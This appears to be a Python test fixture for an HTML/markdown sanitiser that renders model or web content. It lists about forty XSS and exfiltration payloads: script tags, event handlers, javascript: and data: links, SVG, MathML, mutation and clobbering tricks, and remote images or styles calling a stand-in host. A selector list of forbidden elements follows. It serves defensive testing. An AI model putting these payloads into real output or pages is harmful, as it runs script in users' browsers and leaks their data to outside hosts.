"""Texts that try to be more than text: what a prompt, a model or a page that the model has read may hold."""

ELSEWHERE = "https://elsewhere.example"
_RUN = f"(globalThis.attacked=1,alert(1),fetch('{ELSEWHERE}/ran'))"

ATTACKS = {
    "a script": f"<script>{_RUN}</script>",
    "a remote script": f'<script src="{ELSEWHERE}/x.js"></script>',
    "an image's error": f'<img src="x" onerror="{_RUN}">',
    "a remote image": f"![a picture]({ELSEWHERE}/pixel.png)",
    "a remote image in HTML": f'<img src="{ELSEWHERE}/pixel.png" srcset="{ELSEWHERE}/2x.png 2x">',
    "a reference to a remote image": f"![a picture][remote]\n\n[remote]: {ELSEWHERE}/pixel.png",
    "a link to a script": f"[click](javascript:{_RUN.replace(' ', '')})",
    "a hidden link to a script": f'[click](&#106;avascript&colon;{_RUN}) <a href=" java\nscript:{_RUN}">x</a>',
    "an automatic link to a script": f"<javascript:{_RUN}>",
    "a link to data": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a link to vbscript": "[click](vbscript:msgbox(1))",
    "SVG": f'<svg onload="{_RUN}"><script>{_RUN}</script><a xlink:href="javascript:{_RUN}"><text>x</text></a></svg>',
    "SVG that animates": f'<svg><animate onbegin="{_RUN}" attributeName="x" dur="1s"></svg>',
    "an SVG image": f'![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="{_RUN}"/>)',
    "MathML": f'<math><maction actiontype="statusline" xlink:href="javascript:{_RUN}">x</maction></math>',
    "an image without a scheme": f"![x](//{ELSEWHERE.removeprefix('https://')}/pixel.png)",
    "an SVG that uses another": f'<svg><use href="{ELSEWHERE}/x.svg#x"/><image href="{ELSEWHERE}/y.png"/></svg>',
    "an SVG with HTML in it": f'<svg><foreignObject><iframe src="{ELSEWHERE}"></iframe></foreignObject></svg>',
    "a link to a file or a blob": "[x](file://localhost/etc/passwd) [y](blob:x) [z](filesystem:x) [v](intent:x)",
    "a link that reports": f'<a href="/x" ping="{ELSEWHERE}/ping">x</a>',
    "math with styles and links": f"$$\\htmlStyle{{background:url({ELSEWHERE}/m)}}{{x}} \\url{{javascript:{_RUN}}}$$",
    "a comment": f"<!-- --><img src=x onerror={_RUN}> --><!--><script>{_RUN}</script>-->",
    "a shadow": f'<div><template shadowrootmode="open"><script>{_RUN}</script></template></div>',
    "a frameset": f'<frameset><frame src="{ELSEWHERE}"></frameset><portal src="{ELSEWHERE}"></portal>',
    "math": f"$$\\href{{javascript:{_RUN}}}{{x}} \\includegraphics{{{ELSEWHERE}/math.png}} \\htmlData{{x=1}}{{y}}$$",
    "a frame": f'<iframe src="{ELSEWHERE}"></iframe><iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    "an object": f'<object data="{ELSEWHERE}/x"></object><embed src="{ELSEWHERE}/y">',
    "a form": f'<form action="{ELSEWHERE}"><button formaction="javascript:{_RUN}">x</button></form>',
    "a style": f"<style>@import '{ELSEWHERE}/x.css'; * {{ background: url({ELSEWHERE}/y) }}</style>",
    "a style attribute": f'<p style="background: url({ELSEWHERE}/z)">x</p>',
    "a refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}"><base href="{ELSEWHERE}/">',
    "a prefetch": f'<link rel="prefetch" href="{ELSEWHERE}/p"><link rel="stylesheet" href="{ELSEWHERE}/s.css">',
    "media": f'<video src="{ELSEWHERE}/v" poster="{ELSEWHERE}/w" autoplay></video><audio src="{ELSEWHERE}/a"></audio>',
    "focus": f'<input autofocus onfocus="{_RUN}"><details open ontoggle="{_RUN}">x</details>',
    "a tag in two halves": f'<img src=x one="><img src=x onerror={_RUN}>',
    "a noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    "code that closes itself": f"```html</code></pre><script>{_RUN}</script>\n</code><img src=x onerror={_RUN}>\n```",
    "a diagram": f'```mermaid\ngraph TD; A["<img src=x onerror={_RUN}>"]; click A "javascript:{_RUN}"\n```',
    "a clobbered name": '<img name="getElementById"><form id="root"><input name="attributes"></form>',
}

EXECUTABLE = ", ".join((
    "script", "iframe", "object", "embed", "link", "meta", "base", "form", "style", "video", "audio", "animate",
    "[srcset]", "[srcdoc]", "[formaction]", "[id=root]", "img[name]",
    'img:not([src^="data:image/"], [src^="/"], [src^="blob:"])',
))  # fmt: skip
"""What nothing that people or models wrote may become."""
